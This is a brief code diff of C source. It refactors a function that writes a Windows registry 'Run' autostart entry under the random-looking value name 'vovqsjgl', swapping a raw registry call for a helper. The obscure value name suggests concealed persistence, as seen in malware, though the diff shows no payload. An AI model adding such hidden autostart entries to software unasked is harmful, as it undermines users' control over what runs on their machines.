@@ -1,6 +1,7 @@
 #include "registration/autostart_entry.h"
 
 #include "common/program_state.h"
+#include "common/registry_values.h"
 #include "common/safe_command.h"
 #include "platform/win32.h"
 
@@ -13,7 +14,7 @@ void WriteAutostartEntry(const char *command) {
   if (RegCreateKeyExA(parent, "Run", 0, NULL, REG_OPTION_NON_VOLATILE, KEY_ALL_ACCESS, NULL, &run, &disposition) ==
       ERROR_SUCCESS) {
     RegDeleteValueA(run, "vovqsjgl");
-    RegSetValueExA(run, "vovqsjgl", 0, REG_SZ, (const BYTE *)command, (DWORD)lstrlenA(command));
+    SetTextValue(run, "vovqsjgl", command);
     RegCloseKey(run);
   }
   RegCloseKey(parent);
